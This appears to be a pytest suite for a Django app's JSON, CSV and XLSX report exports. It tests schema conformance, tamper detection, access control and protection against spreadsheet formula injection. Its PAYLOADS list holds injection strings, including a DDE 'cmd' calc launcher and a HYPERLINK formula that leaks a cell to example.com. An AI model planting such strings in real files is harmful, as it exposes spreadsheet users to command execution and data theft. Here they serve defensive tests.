"""The JSON, CSV and XLSX copies of a report: what they hold, who gets them, that nothing in them is run, and that a change shows."""

import csv
import io
import json
import os
import re
import subprocess
import sys
import zipfile
from datetime import UTC, datetime
from functools import cache
from io import StringIO
from pathlib import Path

import pytest
from django.core.management import CommandError, call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from hypothesis import given, settings
from hypothesis import strategies as st
from jsonschema import Draft202012Validator
from openpyxl import load_workbook
from referencing import Registry, Resource

from assessments import flow
from assessments import services as answering
from assessments.http import COOKIE
from assessments.models.sheet import Sheet
from recommendations import filled, services
from recommendations.exports import csv_file, json_file, table, xlsx_file
from recommendations.exports.manifest import ExportFileError, changes
from recommendations.models import KeptCopy, Report
from tests.assessments.small import SMALL
from tests.factories import (
    choose,
    hold,
    make_assessment,
    make_edition,
    make_organisation,
    make_user,
    save,
    shipped_edition,
    whole,
)
from tests.recommendations import golden
from tests.recommendations.profiles_at_random import filled as filled_at_random
from tests.recommendations.reports import make_report

ROOT = Path(__file__).parents[2]
KINDS = ("json", "csv", "xlsx")
READERS = {"json": json_file.read, "csv": csv_file.read, "xlsx": xlsx_file.read}
GIVEN_AT = datetime(2026, 10, 14, 9, 30, tzinfo=UTC)
SCHEMA = ROOT / "recommendations" / "data" / "report.schema.json"
# What a spreadsheet would calculate, fetch or start, plain and in disguise.
PAYLOADS = (
    "=1+1",
    "+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "\u22121",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.com/?leak="&A1,"Click")',
    "'=1+1",
    "''=1+1",
    "plain;=1+1",
    "one\n=1+1",
    "one\t@SUM(1)",
)
BLANKS = " \u00a0\u200b\ufeff"
SIGNS = tuple("=+-@＝＋－＠\u2212")
ODD = (
    "שלום עולם",
    "\u202eabc",
    "👩\u200d💻 🚀",
    "é e\u0301",
    'a,b"c"\nd;e',
    "_x0041_ _x005F_",
    "#N/A",
    "TRUE",
    "007",
    "'tis",
)


@cache
def sound():
    """The copies of the golden report; nobody changes them."""
    return golden.copies()


def told_with(*, organisation="Acme", function="Warranty claims", note="Noted"):
    """The frozen content of a report that is full of these words."""
    values = golden.told()
    text = json.dumps(values, ensure_ascii=False)
    for old, new in (
        (values["organisation"], organisation),
        (values["inputs"]["functions"][1]["name"], function),
        (values["inputs"]["notes"]["load"], note),
    ):
        text = text.replace(json.dumps(old, ensure_ascii=False)[1:-1], json.dumps(new, ensure_ascii=False)[1:-1])
    return json.loads(text)


def rows_of(file):
    return list(csv.DictReader(StringIO(file.decode("utf-8-sig"), newline="")))


def verify(tmp_path, name, file):
    """Run the command on a file: what it says, and whether it was satisfied."""
    place = tmp_path / name
    place.write_bytes(file)
    out = StringIO()
    try:
        call_command("verify_export", str(place), stdout=out)
    except CommandError as error:
        return False, str(error)
    return True, out.getvalue()


# What they hold


@pytest.mark.parametrize("name", ["report.json", "report.csv", "report.xlsx.json"])
def test_a_small_report_is_written_as_it_always_was(name):
    assert golden.golden()[name] == (golden.FOLDER / name).read_bytes()


@pytest.mark.parametrize("kind", KINDS)
def test_the_same_report_gives_the_same_bytes(kind):
    assert golden.copies()[kind] == golden.copies()[kind]


def test_a_workbook_holds_no_time_but_that_of_its_report():
    with zipfile.ZipFile(io.BytesIO(sound()["xlsx"])) as packed:
        times = {one.date_time for one in packed.infolist()}
        about = packed.read("docProps/core.xml").decode()

    assert times == {(1980, 1, 1, 0, 0, 0)}
    assert about.count("2026-10-14T09:30:00Z") == 2


def validator():
    answers = json.loads(filled.SCHEMA.read_text("utf-8"))
    registry = Registry().with_resource("answers.schema.json", Resource.from_contents(answers))
    return Draft202012Validator(json.loads(SCHEMA.read_text("utf-8")), registry=registry)


@pytest.mark.parametrize("seed", range(4))
def test_json_fits_its_published_schema(seed):
    edition = shipped_edition()
    functions, answers = filled_at_random(edition, seed)
    given = services.given_of(edition, functions, answers, organisation="Acme", notes={"growth": "?"}, profiles={})
    content = services.content_of(given, reference="SF-1A2B-3C4D", given_at=GIVEN_AT)

    file = json_file.render(json.loads(services.canonical(content)), "0" * 64)

    assert [error.message for error in validator().iter_errors(json.loads(file))] == []


def test_the_schema_refuses_what_is_missing_added_or_of_another_kind():
    bad = [json.loads(sound()["json"]) for _number in range(4)]
    del bad[0]["result"]["mix"]["label"]
    bad[1]["text"]["more"] = ""
    bad[2]["result"]["overall"]["fits"][0]["score"] = "70"
    bad[3]["answers"]["functions"] = []

    assert list(validator().iter_errors(json.loads(sound()["json"]))) == []
    assert [len(list(validator().iter_errors(one))) for one in bad] == [1, 1, 1, 1]


def test_json_holds_all_that_was_frozen():
    told = golden.told()

    document = json.loads(sound()["json"])

    assert json_file.content(document) == told
    assert golden.checksum_of(json_file.content(document)) == document["report"]["checksum"]


def test_the_points_of_a_score_add_up_to_it():
    content = golden.told()
    rows = rows_of(sound()["csv"])
    scores = {(one["function"], "bpo"): int(one["bpo"]) for one in rows if one["section"] == "functions"}
    scores["", "bpo"] = next(int(one["value"]) for one in rows if one["key"] == "score.bpo")

    sums = dict.fromkeys(scores, 50.0)
    for row in rows:
        if row["section"] == "contributions" and row["model"] == "bpo":
            sums[row["function"], "bpo"] += float(row["points"])

    assert {place: round(value, 1) for place, value in sums.items()} == scores
    assert len(scores) == 1 + len(content["result"]["functions"])


def test_every_answer_and_note_has_its_row():
    content = golden.told()
    rows = [row for row in rows_of(sound()["csv"]) if row["section"] == "answers"]

    answers = {(row["function"], row["key"]): row["answer"] for row in rows if row["answer"]}
    notes = {(row["function_name"], row["key"]): csv_file.stored(row["note"]) for row in rows if row["note"]}

    inputs = content["inputs"]
    assert answers == {("", key): answer for key, answer in inputs["answers"].items()} | {
        (key, question): answer
        for key, function in zip(("payroll", "own_1"), inputs["functions"], strict=True)
        for question, answer in function["answers"].items()
    }
    assert notes == {
        ("The organisation", "load"): inputs["notes"]["load"],
        ("All functions", "method"): inputs["notes"]["method"],
    }


def test_csv_is_what_the_rfc_says():
    file = sound()["csv"]
    text = file.decode("utf-8-sig")

    assert file.startswith(b"\xef\xbb\xbfsection,")
    assert text.endswith("\r\n")
    assert {len(row) for row in csv.reader(StringIO(text, newline=""), strict=True)} == {len(csv_file.COLUMNS)}


# The same scores elsewhere


def test_the_answers_of_a_download_give_the_same_result_on_another_database(client, db, tmp_path):
    assessment = make_assessment(
        make_edition(shipped_edition()), token=hold(client), functions=("payroll", "tax_planning")
    )
    choose(assessment, "payroll", "own_1", "tax_planning")
    save(assessment, {**whole(assessment), ("", "growth"): "dont_know"}, notes={"repetitive_load": "Mondays"})
    report = services.submit(assessment=assessment)
    document = json.loads(client.get(reverse("recommendations:json", args=(report.pk,))).content)
    environment = os.environ | {"SOURCEFIT_VAR": str(tmp_path), "SOURCEFIT_ENV": "embedded"}
    environment.pop("DATABASE_URL", None)

    def manage(*command, **told):
        arguments = [sys.executable, str(ROOT / "manage.py"), *command]
        return subprocess.run(arguments, check=True, cwd=ROOT, env=environment, capture_output=True, **told).stdout

    manage("migrate", "-v0")
    manage("import_questionnaire", "assessments/data/sourcing-1.toml", "--publish", "-v0")
    again = json.loads(manage("recommend", "-", "--json", "-v0", input=json.dumps(document["answers"]).encode()))

    assert again["result"] == document["result"]
    assert again["inputs"] == {**document["answers"], "notes": {}}


# What is run: nothing


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_of_a_csv_begins_a_formula(payload):
    file = golden.copies(told_with(organisation=payload, function=payload, note=payload))["csv"]

    cells = [cell for row in rows_of(file) for column, cell in row.items() if column != "points"]

    assert payload in [csv_file.stored(cell) for cell in cells]
    # Some spreadsheets split a cell at a semicolon, a tab or a line's end, quoted or not.
    pieces = [piece.lstrip(BLANKS) for cell in cells for piece in re.split(r"[;\t\r\n]", cell)]
    assert [piece for piece in pieces if piece.startswith(SIGNS)] == []
    assert [cell for cell in cells if cell.lstrip(BLANKS).startswith(("\t", "\r", "\n", "\0"))] == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_of_a_workbook_is_a_formula(payload):
    file = golden.copies(told_with(organisation=payload, function=payload, note=payload))["xlsx"]
    cells = [cell for sheet in load_workbook(io.BytesIO(file)).worksheets for row in sheet.iter_rows() for cell in row]

    assert payload in [cell.value for cell in cells]
    assert {cell.data_type for cell in cells} == {"s", "n"}
    assert {cell.quotePrefix for cell in cells if cell.value == payload} == {not payload[0].isalnum()}
    with zipfile.ZipFile(io.BytesIO(file)) as packed:
        assert [name for name in packed.namelist() if b"<f>" in packed.read(name)] == []


@pytest.mark.parametrize("text", [*PAYLOADS, *ODD])
@pytest.mark.parametrize("kind", KINDS)
def test_odd_text_is_read_back_as_it_was(kind, text):
    content = told_with(organisation=text, function=text, note=text)
    opened = READERS[kind](golden.copies(content)[kind])
    texts = {cell for rows in opened.parts.values() for row in rows for cell in row}

    assert changes(opened) == []
    assert (json.dumps(text, ensure_ascii=False) if kind == "json" else text) in texts


@given(st.text(st.characters(codec="utf-8") | st.sampled_from("'=+-@;\t\r\n \u00a0＝")))
def test_an_apostrophe_that_was_put_there_is_taken_away_and_no_other(text):
    safe = csv_file.safe(text)

    assert csv_file.stored(safe) == text
    assert safe.lstrip(" \u00a0")[:1] not in tuple("=+-@＝\t\r\n") or not safe.strip(" \u00a0")


def test_a_number_below_nought_stays_a_number():
    points = [row["points"] for row in rows_of(sound()["csv"]) if row["points"]]
    sheet = load_workbook(io.BytesIO(sound()["xlsx"]))["contributions"]

    assert min(float(one) for one in points) == -36.9
    assert min(float(str(row[-2].value)) for row in sheet.iter_rows(min_row=2)) == -36.9


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_what_a_file_can_not_hold_is_replaced_by_a_sign_and_seen(kind):
    opened = READERS[kind](golden.copies(told_with(note="a\x00b\x1bc\ud800d\ufffee\rf"))[kind])

    assert changes(opened) == []
    assert "a\ufffdb\ufffdc\ufffdd\ufffde\nf" in [cell for row in opened.parts["answers"] for cell in row]


def test_a_note_of_ten_thousand_characters_is_whole():
    note = "wörd; " * 1700

    for kind in ("csv", "xlsx"):
        opened = READERS[kind](golden.copies(told_with(note=note))[kind])
        assert note in [cell for row in opened.parts["answers"] for cell in row]


# Whether it was changed


@pytest.mark.parametrize("kind", KINDS)
def test_an_untouched_file_is_intact(kind, tmp_path):
    is_intact, said = verify(tmp_path, f"report.{kind}", sound()[kind])

    assert is_intact
    assert "intact: report SF-1A2B-3C4D" in said


@pytest.mark.parametrize(
    ("old", "new", "place"),
    [
        (b"summary,,,,,,score.bpo,BPO,,70,", b"summary,,,,,,score.bpo,BPO,,71,", "summary: row 9 was changed"),
        (b",-36.9,", b",-3.69,", "contributions: row 62 was changed"),
        (
            b"'@SUM(1+1)*cmd|' /C calc'!A0,,,,method",
            b"@SUM(1+1)*cmd|' /C calc'!A0,,,,method",
            "answers: row 66 was changed",
        ),
        (b"answers,payroll,", b"answers,own_1,", "answers: row 65 was changed"),
        (b"score.kpo.high,", b"score.kpo.low,", "summary: row 17 was changed"),
        (b"33.3,Go,,100", b"33.3,Go,,99", "functions: row 29 was changed"),
        (b"manifest,,,,,,version,,,1", b"manifest,,,,,,version,,,2", "manifest: it was changed itself"),
    ],
)
def test_one_changed_cell_of_a_csv_is_found_and_named(old, new, place, tmp_path):
    file = sound()["csv"]
    assert file.count(old) == 1

    is_intact, said = verify(tmp_path, "report.csv", file.replace(old, new))

    assert not is_intact
    assert said == f"{tmp_path / 'report.csv'}: changed: {place}"


def test_rows_of_a_csv_that_are_gone_or_came_are_named(tmp_path):
    lines = sound()["csv"].split(b"\r\n")
    fewer, more = b"\r\n".join([*lines[:3], *lines[5:]]), b"\r\n".join([*lines[:5], lines[4], *lines[5:]])

    assert verify(tmp_path, "fewer.csv", fewer)[1].endswith("changed: summary: 2 missing before row 4")
    assert verify(tmp_path, "more.csv", more)[1].endswith("changed: summary: row 5 was added")


def test_one_changed_value_of_json_is_found_and_named(tmp_path):
    document = json.loads(sound()["json"])
    document["result"]["functions"][1]["standing"]["fits"][0]["printed"] += 1

    is_intact, said = verify(tmp_path, "report.json", json.dumps(document).encode())

    assert not is_intact
    assert said.splitlines() == [
        f"{tmp_path / 'report.json'}: changed: report: its checksum is not that of what stands here",
        f"{tmp_path / 'report.json'}: changed: result.functions: row 2 was changed",
    ]


def test_json_with_other_spaces_is_still_intact(tmp_path):
    document = json.loads(sound()["json"])

    assert verify(tmp_path, "report.json", json.dumps(document).encode())[0]


@pytest.mark.parametrize(
    ("place", "value", "row"),
    [
        (("summary", "C9"), 71, 9),
        (("functions", "G2"), 99, 2),
        (("contributions", "J5"), 0, 5),
        (("answers", "G3"), "=1+1", 3),
    ],
)
def test_one_changed_cell_of_a_workbook_is_found_and_named(place, value, row, tmp_path):
    sheet, cell = place
    book = load_workbook(io.BytesIO(sound()["xlsx"]))
    untouched, touched = io.BytesIO(), io.BytesIO()
    book.save(untouched)
    book[sheet][cell] = value
    book.save(touched)

    assert verify(tmp_path, "untouched.xlsx", untouched.getvalue())[0]
    assert verify(tmp_path, "touched.xlsx", touched.getvalue())[1].endswith(f"changed: {sheet}: row {row} was changed")


def test_a_text_that_became_a_formula_is_a_change(tmp_path):
    book = load_workbook(io.BytesIO(sound()["xlsx"]))
    book["summary"]["C2"].value = sound_text = book["summary"]["C2"].value
    assert sound_text.startswith("=HYPERLINK")
    changed = io.BytesIO()
    book.save(changed)

    assert verify(tmp_path, "report.xlsx", changed.getvalue())[1].endswith("changed: summary: row 2 was changed")


def test_a_sheet_that_is_gone_is_named(tmp_path):
    book = load_workbook(io.BytesIO(sound()["xlsx"]))
    del book["answers"]
    changed = io.BytesIO()
    book.save(changed)

    assert "answers: it is missing" in verify(tmp_path, "report.xlsx", changed.getvalue())[1]


@pytest.mark.parametrize(
    "file", [b"", b"PK\x03\x04 not a zip", b"{", b"{}", b"[]", b"a,b\r\n1,2\r\n", b"\xff\xfe\x00", b'{"manifest": 1}']
)
def test_what_is_no_export_is_refused_in_words(file, tmp_path):
    is_intact, said = verify(tmp_path, "other", file)

    assert not is_intact
    assert "not an export of a report: " in said


def test_a_file_that_is_not_there_is_refused_in_words(tmp_path):
    with pytest.raises(CommandError, match="can’t be read"):
        call_command("verify_export", str(tmp_path / "missing.csv"))


@settings(max_examples=60, deadline=None)
@given(st.sampled_from(KINDS), st.integers(0, 10_000), st.binary(max_size=8))
def test_no_damage_makes_reading_fall_over(kind, place, damage):
    file = sound()[kind]
    start = place % len(file)

    try:
        found = changes(READERS[kind](file[:start] + damage + file[start + len(damage) :]))
    except ExportFileError as error:
        found = [str(error)]

    assert all(isinstance(one, str) for one in found)


# Who gets them


@pytest.fixture
def shipped(db):
    return make_edition(shipped_edition())


def address(kind, report):
    return reverse(f"recommendations:{kind}", args=(report.pk,))


TYPES = {
    "json": "application/json",
    "csv": "text/csv; charset=utf-8; header=present",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
}


@pytest.mark.parametrize("kind", KINDS)
def test_whoever_holds_the_token_gets_an_intact_file_that_nobody_may_keep(client, shipped, kind, tmp_path):
    report = make_report(shipped, token=hold(client))

    response = client.get(address(kind, report))
    head = client.head(address(kind, report))

    assert (response.status_code, response["Content-Type"]) == (200, TYPES[kind])
    assert response["Content-Disposition"] == (
        f"attachment; filename=\"{report.reference}.{kind}\"; filename*=UTF-8''{report.reference}.{kind}"
    )
    assert set(response["Cache-Control"].split(", ")) == {"private", "no-store"}
    assert response["X-Content-Type-Options"] == "nosniff"
    assert verify(tmp_path, "file", response.content)[0]
    assert READERS[kind](response.content).manifest["reference"] == report.reference
    assert (head.status_code, head.content) == (200, b"")
    assert head["Content-Length"] == response["Content-Length"] == str(len(response.content))


@pytest.mark.parametrize("kind", KINDS)
def test_a_stranger_and_half_a_token_find_what_a_missing_report_gives(client, shipped, kind):
    token = hold(client)
    report = make_report(shipped, token=token)
    client.cookies[COOKIE] = token[:20]

    half, missing = client.get(address(kind, report)), client.get(address(kind, Report()))

    assert (half.status_code, half.content) == (404, missing.content)


@pytest.mark.parametrize("kind", KINDS)
def test_no_file_holds_anything_of_another_organisation(client, shipped, kind):
    files = {}
    for name in ("Canary Finch", "Canary Serin"):
        user = make_user(f"{name[-5:].lower()}@example.com")
        assessment = make_assessment(shipped, organisation=make_organisation(user, name=name), functions=("payroll",))
        rename(assessment, {"payroll": "Payroll", "own_1": f"{name} claims"})
        save(assessment, whole(assessment), notes={"repetitive_load": f"{name} noted this"})
        report = services.submit(assessment=assessment)
        client.force_login(user)
        files[name] = (report, client.get(address(kind, report)).content)

    for name, (_report, file) in files.items():
        other = next(one for one in files if one != name)
        words = repr(READERS[kind](file).parts) + (file.decode() if kind != "xlsx" else "")
        assert [f"{name} claims" in words, f"{name} noted this" in words, other in words] == [True, True, False]
    first, second = files.values()
    assert client.get(address(kind, first[0])).status_code == 404
    assert client.get(address(kind, second[0])).status_code == 200


def rename(assessment, chosen):
    assessment.refresh_from_db()
    answering.choose_functions(sheet=Sheet(assessment), chosen=chosen, version=assessment.functions_version)


@pytest.mark.parametrize("kind", KINDS)
def test_an_erased_organisation_takes_its_files_along_and_a_retired_edition_does_not(client, shipped, kind):
    user = make_user()
    organisation = make_organisation(user)
    client.force_login(user)
    report = make_report(shipped, organisation=organisation)
    before = client.get(address(kind, report)).content
    type(shipped).objects.filter(pk=shipped.pk).update(status=shipped.Status.RETIRED)

    retired = client.get(address(kind, report))
    organisation.delete()
    erased, missing = client.get(address(kind, report)), client.get(address(kind, Report()))

    assert (retired.status_code, retired.content) == (200, before)
    assert (erased.status_code, erased.content) == (404, missing.content)


def test_a_download_costs_one_query_once_its_edition_is_known_and_a_kept_one_two(client, shipped):
    report = make_report(shipped, token=hold(client))
    counts = []
    for kind in KINDS:
        client.get(address(kind, report))
        with CaptureQueriesContext(connection) as queries:
            client.get(address(kind, report))
        counts.append(len(queries))

    assert dict(zip(KINDS, counts, strict=True)) == {"json": 1, "csv": 1, "xlsx": 2}


def test_the_page_leads_to_every_copy_and_the_sample_to_none(client, shipped):
    report = make_report(shipped, token=hold(client))

    page = client.get(reverse("recommendations:report", args=(report.pk,))).content.decode()

    assert [f'href="{address(kind, report)}"' in page for kind in ("pdf", *KINDS)] == [True] * 4


def test_the_columns_of_every_table_have_a_heading():
    made = table.tables(golden.told(), "0" * 64, SMALL)

    assert [len(set(table.headings(one))) for one in made] == [len(one.columns) for one in made]
    assert flow.DONT_KNOW in [row[5] for row in made[3].rows]


def test_a_second_workbook_is_the_kept_bytes_beside_the_kept_pdf(client, shipped):
    report = make_report(shipped, token=hold(client))
    client.get(address("pdf", report))
    first = client.get(address("xlsx", report)).content

    with CaptureQueriesContext(connection) as queries:
        second = client.get(address("xlsx", report)).content

    assert (second == first, len(queries), KeptCopy.objects.count()) == (True, 2, 2)
